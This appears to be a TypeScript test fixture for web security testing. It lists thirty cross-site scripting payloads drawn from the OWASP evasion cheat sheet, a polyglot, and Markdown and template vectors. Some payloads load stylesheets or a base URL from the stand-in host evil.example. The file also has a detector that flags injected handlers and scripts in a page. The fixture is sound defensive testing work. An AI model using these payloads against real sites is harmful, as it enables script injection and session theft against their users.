// Script-injection payloads for attack tests: a selection from the OWASP XSS Filter Evasion
// Cheat Sheet (owasp.org/www-community/xss-filter-evasion-cheatsheet), the well-known
// polyglot by 0xsobky, Markdown-specific vectors, and markup that would make a page load
// something from another host. Each carries "xss" so a test can find where it landed.
export const XSS_PAYLOADS: readonly string[] = [
  "<script>alert('xss1')</script>",
  '"><script>alert("xss2")</script>',
  "'><img src=x onerror=alert('xss3')>",
  "<img src=x onerror=alert('xss4')>",
  "<svg onload=alert('xss5')>",
  "<svg/onload=alert('xss6')>",
  "<body onload=alert('xss7')>",
  "<iframe src=\"javascript:alert('xss8')\"></iframe>",
  "<a href=\"javascript:alert('xss9')\">xss9</a>",
  "[xss10](javascript:alert('xss10'))",
  "![xss11](x\" onerror=\"alert('xss11'))",
  "<IMG SRC=\"jav&#x09;ascript:alert('xss12');\">",
  '<IMG """><SCRIPT>alert("xss13")</SCRIPT>">',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss14')>",
  "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert('xss15') )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert('xss15')//>\\x3e",
  "<details open ontoggle=alert('xss16')>",
  "<input autofocus onfocus=alert('xss17')>",
  "<object data=\"javascript:alert('xss18')\"></object>",
  "<embed src=\"javascript:alert('xss19')\">",
  "<form><button formaction=javascript:alert('xss20')>xss20</button></form>",
  "<style>@import'//evil.example/xss21.css';</style>",
  "<link rel=stylesheet href=//evil.example/xss22.css>",
  '<base href="//evil.example/xss23/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(\'xss24\')">',
  "{{constructor.constructor('alert(\"xss25\")')()}}",
  "<div style=\"background:url('javascript:alert(\\'xss26\\')')\">xss26</div>",
  "<<SCRIPT>alert('xss27');//\\<</SCRIPT>",
  "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert('xss28')\">xss28</a>",
  "\u202e<img src=x onerror=alert('xss29')>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert('xss30')>\">",
];

/**
 * Runs in the page: everything that would execute or load script or content the page did not
 * mean to have — event-handler attributes, javascript: URLs, inline scripts, frames, objects,
 * base and refresh elements, and style or link elements inside the page body.
 */
export const FIND_INJECTED = `(() => {
  const bad = [];
  for (const el of document.querySelectorAll("*")) {
    for (const a of el.attributes) {
      if (/^on/i.test(a.name)) bad.push(el.tagName + " " + a.name);
      if (/^\\s*(javascript|vbscript|data:text\\/html)/i.test(a.value) && ["href", "src", "action", "formaction", "data"].includes(a.name.toLowerCase())) bad.push(el.tagName + " " + a.name + "=" + a.value);
    }
  }
  for (const s of document.querySelectorAll("script")) if (!s.src) bad.push("inline script: " + s.textContent.slice(0, 40));
  for (const s of document.querySelectorAll("body iframe, body object, body embed, body base, body meta, body style, body link, base")) bad.push(s.tagName);
  return bad;
})()`;
